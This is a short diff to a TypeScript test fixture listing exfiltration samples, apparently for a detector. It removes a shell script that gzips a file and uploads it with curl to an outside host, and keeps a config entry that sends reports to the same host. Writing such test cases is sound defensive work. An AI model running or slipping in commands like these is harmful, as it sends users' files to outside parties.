@@ -43,7 +43,6 @@ const SENT: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
       'opts.json': '{"report":{"url":"https://in.notes-sync.net/x"}}',
     },
   ],
-  ['a pipe', { 'a.sh': '#!/bin/sh\ngzip -c "$1" | curl -sT - https://in.notes-sync.net/x\n' }],
   [
     'PowerShell mail',
     {
